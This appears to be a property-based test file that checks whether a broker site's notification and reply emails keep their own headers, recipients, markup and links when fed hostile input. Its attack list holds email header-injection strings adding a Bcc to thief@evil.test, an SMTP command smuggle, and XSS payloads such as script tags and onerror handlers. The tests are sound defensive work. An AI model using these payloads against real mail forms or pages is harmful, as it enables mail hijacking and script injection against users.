import fc from 'fast-check'
import type { Inquiry, SavedCalculation } from 'shared/contract'
import { arbitraryCodePoint } from 'shared/testing/arbitrary-code-point'
import { checkProperty, chooseRunCount } from 'shared/testing/repetition'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type FakeSmtpServer, startFakeSmtpServer } from '../../../fakes/fake-smtp-server.ts'
import { parseRawEmail } from '../../../fakes/parse-email.ts'
import { createMailer, type OutgoingEmail } from '../../../lib/mailer.ts'
import { buildSavedSedan } from '../../../testing/fixtures/calculator.ts'
import { newInquiryFields } from '../../../testing/fixtures/inquiry.ts'
import { buildAnswerEmail } from './answer-email.ts'
import { buildInquiryEmail } from './inquiry-email.ts'

const RUNS = chooseRunCount(10_000, 100)
const ORIGIN = 'https://broker.test'
const attacks = [
  '\r\nBcc: thief@evil.test',
  '\nBcc: thief@evil.test\n\nbody',
  '\rBcc: thief@evil.test',
  '\u2028Bcc: thief@evil.test',
  '@evil.test \u2028Bcc: thief@evil.test',
  '@evil.test\u00a0\u00a0Bcc: thief@evil.test',
  '\u0085Bcc: thief@evil.test',
  '\u0000',
  '\u000b\u000c',
  '\r\n.\r\nMAIL FROM:<thief@evil.test>\r\nRCPT TO:<thief@evil.test>\r\nDATA\r\n',
  '\n.\n',
  '\r\n\r\n--',
  '=?UTF-8?B?DQpCY2M6IHRoaWVmQGV2aWwudGVzdA==?=',
  '=?utf-8?q?=0D=0ABcc:_thief=40evil.test?=',
  ', thief@evil.test',
  '; thief@evil.test',
  '<thief@evil.test>',
  '> , <thief@evil.test',
  '" <thief@evil.test>, "',
  'group: thief@evil.test;',
  '(thief@evil.test)',
  '\\" ',
  'a@b.test?bcc=thief@evil.test&body=x',
  '\ud800',
  '\u202e',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</td></table><a href="javascript:alert(1)">x</a>',
  '<svg/onload=alert(1)>',
  '<a href=https://evil.test>Открыть заявку</a>',
  '&lt;script&gt;',
  '<!--',
  '-->',
  ']]>',
  '</title><script>',
  'javascript:alert(1)',
]

const hostile = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...attacks) },
      fc.string({ unit: arbitraryCodePoint, maxLength: 20 }),
    ),
    {
      minLength: 1,
      maxLength: 6,
    },
  )
  .map((parts) => parts.join(''))

const requests = fc.oneof(
  fc
    .record({ name: hostile, phone: hostile })
    .map((fields): Inquiry => ({ ...newInquiryFields, kind: 'callback', ...fields })),
  fc
    .record({ email: hostile, message: hostile })
    .map((fields): Inquiry => ({ ...newInquiryFields, kind: 'calculation', calculation: null, ...fields })),
)

const harmless: Record<Inquiry['kind'], Inquiry> = {
  callback: { ...newInquiryFields, kind: 'callback', name: 'x', phone: 'x' },
  calculation: { ...newInquiryFields, kind: 'calculation', email: 'x', message: 'x', calculation: null },
}

let server: FakeSmtpServer
beforeAll(async () => {
  server = await startFakeSmtpServer()
})
afterAll(() => server.stop())

const deliverEmail = async (content: Omit<OutgoingEmail, 'messageId' | 'date'>) => {
  const { send } = createMailer({ url: server.url, from: 'site@example.com', to: 'sales@example.com' })
  const before = server.emails.length
  const email = { ...content, messageId: '<42@requests>', date: new Date(0) }
  await send(email, new AbortController().signal)
  expect(server.emails).toHaveLength(before + 1)
  const received = server.emails.at(-1)
  if (!received) throw new Error('no email was received')
  return { ...received, ...parseRawEmail(received.raw) }
}

const deliverInquiryEmail = (request: Inquiry) => deliverEmail(buildInquiryEmail(request, ORIGIN))

/** Once created a header of its own: a header line was folded before a space that mail does not recognize. */
const foldedInTheWrongPlace: Inquiry = {
  ...newInquiryFields,
  kind: 'calculation',
  email:
    ', thief@evil.test=?UTF-8?B?DQpCY2M6IHRoaWVmQGV2aWwudGVzdA==?=\u2028Bcc: thief@evil.test\r\nBcc: thief@evil.test',
  message: 'x',
}

/** Replaces every name in a saved calculation by a text. */
const replaceNames = ({ input, result, ...saved }: SavedCalculation, text: string): SavedCalculation => ({
  ...saved,
  input: { ...input, location: text, port: text, destination: text },
  result: {
    ...result,
    lines: result.lines.map((line) => ({ ...line, title: text })),
    groups: result.groups.map((group) => ({ ...group, title: text })),
    warnings: result.warnings.map(({ code }) => ({ code, message: text })),
  },
})

const listTags = (html: string) =>
  (html.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/ href="(?:tel|mailto):[^"]*"/, ' href="…"'))

describe('an email about hostile input that bypassed validation', () => {
  test('an email about an inquiry with hostile input has only headers, recipients, markup and links that the server writes', async () => {
    const buildHeaders = async (kind: Inquiry['kind']) =>
      (await deliverInquiryEmail(harmless[kind])).headers.map(([name]) => name)
    const ours = { callback: await buildHeaders('callback'), calculation: await buildHeaders('calculation') }
    const markup = {
      callback: listTags(buildInquiryEmail(harmless.callback, ORIGIN).html),
      calculation: listTags(buildInquiryEmail(harmless.calculation, ORIGIN).html),
    }
    await checkProperty(
      fc.asyncProperty(requests, async (request) => {
        const { headers, header, to, from, html } = await deliverInquiryEmail(request)
        expect([from, to]).toEqual(['site@example.com', ['sales@example.com']])
        expect(headers.map(([name]) => name).filter((name) => name !== 'reply-to')).toEqual(
          ours[request.kind].filter((name) => name !== 'reply-to'),
        )
        expect(headers.filter(([name]) => name === 'reply-to').length).toBeLessThan(2)
        expect(header('reply-to'), 'one address').toMatch(/^(?:[^\s,;:<>"()]*|<[^<>]*>)$/)
        expect(header('to')).toBe('sales@example.com')
        expect(header('from')).toBe('site@example.com')
        expect(header('message-id')).toBe('<42@requests>')
        expect(listTags(html)).toEqual(markup[request.kind])
        for (const [, address] of html.matchAll(/href="([^"]*)"/g))
          expect(address?.replaceAll('&#39;', '')).toMatch(
            /^(?:tel:|mailto:[^?&\s]*$|https:\/\/broker\.test\/admin\/requests\?open=7$|customs-admin:\/\/\/admin\/requests\?open=7&amp;server=https%3A%2F%2Fbroker\.test$)/,
          )
      }),
      RUNS,
      { examples: [[foldedInTheWrongPlace]] },
    )
  })

  test('an answer with hostile subject and text has only headers, recipients and markup that the server writes', async () => {
    const saved = buildSavedSedan()
    const buildAnswer = (subject: string, text: string) => ({
      ...buildAnswerEmail(
        {
          to: 'ivan@example.com',
          replyTo: 'info@example.com',
          subject,
          text,
          quoted: undefined,
          calculation: saved,
        },
        ORIGIN,
      ),
      inReplyTo: '<41@requests>',
      isWrittenByPerson: true,
    })
    const listTagsWithoutLines = (html: string) =>
      listTags(html).filter((tag) => !/^<(?:br|\/?p)\b/.test(tag))
    const ours = await deliverEmail(buildAnswer('x', 'x'))
    await checkProperty(
      fc.asyncProperty(hostile, hostile, async (subject, text) => {
        const { headers, header, to, html } = await deliverEmail(buildAnswer(`x${subject}`, text))
        expect(to).toEqual(['ivan@example.com'])
        expect(headers.map(([name]) => name)).toEqual(ours.headers.map(([name]) => name))
        expect(header('reply-to')).toBe('info@example.com')
        expect(header('in-reply-to')).toBe('<41@requests>')
        expect(listTagsWithoutLines(html)).toEqual(listTagsWithoutLines(ours.html))
      }),
      RUNS,
    )
  })

  test('an email about a calculation with hostile content has the same tags and number of lines as with harmless content', async () => {
    const saved = buildSavedSedan()
    const buildQuotingEmail = (name: string) =>
      buildInquiryEmail(harmless.calculation, ORIGIN, replaceNames(saved, name))
    const countLines = (text: string) => text.split(/\r\n|[\n\r\u0085\u2028\u2029\v\f]/).length
    const ours = buildQuotingEmail('x')
    await checkProperty(
      fc.property(hostile, (name) => {
        const { html, text } = buildQuotingEmail(name)
        expect(listTags(html)).toEqual(listTags(ours.html))
        expect(countLines(text)).toBe(countLines(ours.text))
      }),
      RUNS,
    )
  })
})
